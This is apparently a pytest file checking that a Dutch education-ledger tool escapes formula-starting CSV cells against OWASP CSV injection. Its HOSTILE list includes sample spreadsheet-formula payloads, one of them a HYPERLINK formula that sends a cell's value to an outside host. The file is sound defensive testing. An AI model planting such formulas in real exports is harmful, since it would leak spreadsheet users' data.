"""CSV safety: no cell the project writes can start a spreadsheet formula (OWASP CSV injection).

Every CSV goes through :func:`onderwijsregels.present.csv.rows_to_csv`; a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front. The hostile
names are put in ledger and employee files generated in ``tmp_path`` and read back with the
``csv`` module, as a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

import onderwijsregels as owr
from onderwijsregels.cli import main
from onderwijsregels.ledger import Ledger, Situation, Spending, SpendingKind
from onderwijsregels.present.csv import FORMULA_STARTS, rows_to_csv, safe_cell

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_safe(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"cell {cell!r} starts a formula"


@pytest.mark.parametrize("name", HOSTILE)
def test_safe_cell_quotes_every_formula_start(name: str) -> None:
    assert safe_cell(name) == "'" + name
    assert cells(rows_to_csv(["name"], [[name]]))[1] == ["'" + name]


@pytest.mark.parametrize("value", ["Juf Ans", "3100.00", "2024-12-31", "", "'quoted", "a=b"])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value
    assert cells(rows_to_csv(["value"], [[value]]))[1] == [value]


def test_non_text_cells_are_written_as_before() -> None:
    text = rows_to_csv(["a", "b", "c", "d"], [[True, None, Decimal("3100.00"), 2020]])
    assert text == "a,b,c,d\nTrue,,3100.00,2020"


def test_a_negative_number_is_quoted_as_the_rule_says() -> None:
    # The OWASP rule quotes a leading minus too; the amounts the project writes are never
    # negative, so this only matters for a caller's own rows.
    assert cells(rows_to_csv(["amount"], [[Decimal("-5.00")]]))[1] == ["'-5.00"]


@pytest.mark.parametrize("name", ["Juf\rAns", "Juf\nAns", "Juf\r\n=1+2"])
def test_a_line_break_in_a_cell_cannot_start_a_row(name: str) -> None:
    text = rows_to_csv(["name", "amount"], [[name, "1.00"]])
    assert cells(text) == [["name", "amount"], [name, "1.00"]]
    assert text.startswith("name,amount\n")


def test_the_header_is_neutralised_too() -> None:
    assert cells(rows_to_csv(["=cmd"], []))[0] == ["'=cmd"]


def hostile_ledgers(tmp_path: Path) -> Path:
    text = "ledgers:\n" + "".join(
        f"  - name: {json.dumps(name)}\n"
        "    situations: [{year: 2020, function: directeur, werktijdfactor: 1}]\n"
        "    agreements: [{first_year: 2020, last_year: 2020}]\n"
        f"    spendings: [{{day: 2020-03-01, amount: '100.00', kind: studieverlof, "
        f"description: {json.dumps(name)}}}]\n"
        for name in HOSTILE
    )
    path = tmp_path / "ledgers.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_statement_csv_of_hostile_ledger_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = hostile_ledgers(tmp_path)
    assert main(["statement", str(path), "--through", "2020", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert_safe(out)
    rows = cells(out)
    assert {row[0] for row in rows[1:]} == {"'" + name for name in HOSTILE}


def test_statement_to_csv_is_safe(rulebook_all: owr.Rulebook) -> None:
    ledger = Ledger(
        situations=[Situation(2020, owr.Function.DIRECTEUR, Decimal("1"))],
        spendings=[Spending(date(2020, 3, 1), Decimal("100.00"), SpendingKind.STUDIEVERLOF, "=1")],
        name="=HYPERLINK(1)",
    )
    text = ledger.statement(rulebook_all, through=2020).to_csv()
    assert_safe(text)


@pytest.mark.parametrize("name", HOSTILE)
def test_registers_csv_of_a_hostile_employee_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    path = tmp_path / "board.yaml"
    path.write_text(
        f"employees:\n  - {{function: directeur, werktijdfactor: 1, name: {json.dumps(name)}}}\n",
        encoding="utf-8",
    )
    assert main(["registers", str(path), "--on", "2025-01-01", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert_safe(out)
    (employee,) = (row[1] for row in cells(out)[1:])
    assert employee.startswith("'" + name)


def test_register_rows_to_csv_is_safe(rulebook_all: owr.Rulebook) -> None:
    employee = owr.Employee(function=owr.Function.DIRECTEUR, werktijdfactor=1, name="@cmd")
    rows = owr.register_overview(rulebook_all, [("-where", employee)], date(2025, 1, 1))
    from onderwijsregels.register_overview import rows_to_csv as register_csv

    text = register_csv(rows)
    assert_safe(text)
    assert cells(text)[1][:2] == ["'-where", "'@cmd (directeur, werktijdfactor 1)"]
